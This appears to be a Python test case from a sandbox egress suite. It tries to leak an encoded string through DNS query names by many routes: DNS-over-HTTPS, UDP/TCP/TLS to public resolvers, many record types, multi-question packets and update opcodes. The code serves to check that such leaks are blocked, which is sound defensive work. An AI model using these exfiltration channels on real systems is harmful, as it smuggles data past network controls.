# Case 5: data in the names of queries, by every transport that DNS has. The
# zones that take it are the arguments; what must not happen is that they are asked.
import base64
import sys
from attempts import *

secret = base64.b32encode(b"what the program found out inside").decode().rstrip("=").lower()
here = resolver()
kinds = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "SVCB": 64, "HTTPS": 65, "ANY": 255}
outside = ["8.8.8.8", "1.1.1.1", "9.9.9.9", "185.228.168.9", "2001:4860:4860::8888"]
work = []
# Others first: a sandbox's denials are told one by one only so far.
for zone in sys.argv[1:]:
    for server in ("1.1.1.1", "8.8.8.8", "9.9.9.9"):
        work.append((f"DNS over HTTPS at {server}", lambda server=server, zone=zone: curl("-k", f"https://{server}/dns-query?name={secret}.https.{zone}&type=TXT")))
    for server in outside:
        for transport, port in (("udp", 53), ("tcp", 53), ("tls", 853), ("udp", 5353), ("udp", 853)):
            q = question(f"{secret}.{transport}{port}.{zone}", 16)
            work.append((f"{server} by {transport}, port {port}", lambda server=server, q=q, transport=transport, port=port: answers(dns(server, q, transport, port))))
for zone in sys.argv[1:]:
    for kind, number in kinds.items():
        for transport in ("udp", "tcp"):
            q = question(f"{secret}.{kind.lower()}-{transport}.{zone}", number)
            work.append((f"{kind} by {transport} for {zone}", lambda q=q, transport=transport: answers(dns(here, q, transport))))
    work.append((f"getaddrinfo {zone}", lambda zone=zone: socket.getaddrinfo(f"{secret}.lookup.{zone}", 443)))
    # Many questions in one packet, and one that only begins like an allowed name.
    two = question(f"{secret}.second.{zone}", 16)
    both = two[:4] + struct.pack(">H", 2) + two[6:] + question("api.example", 1)[12:]
    work.append(("two questions", lambda both=both: answers(dns(here, both))))
    work.append(("an update", lambda two=two: answers(dns(here, two[:2] + b"\x28\0" + two[4:]))))
    work.append(("bytes behind", lambda: answers(dns(here, question(f"{secret}.behind.{zone}", 1) + secret.encode() * 10))))
all_at_once(work)
